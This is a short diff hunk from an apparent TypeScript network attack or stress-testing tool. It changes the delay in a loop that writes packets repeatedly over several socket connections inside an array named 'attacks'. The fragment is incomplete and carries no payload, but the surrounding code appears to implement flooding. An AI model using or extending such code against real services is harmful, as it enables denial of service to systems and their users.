@@ -189,7 +189,7 @@ const attacks: Attack[] = [
         for (const { socket } of connections) socket.write(Buffer.concat(begin));
         for (let i = 0; i < Number(rounds); i += 1) {
           for (const { socket } of connections) socket.write(packet);
-          await delay(200);
+          await delay(400);
         }
         return connections.length * streams.length * Number(rounds) * 250;
       },
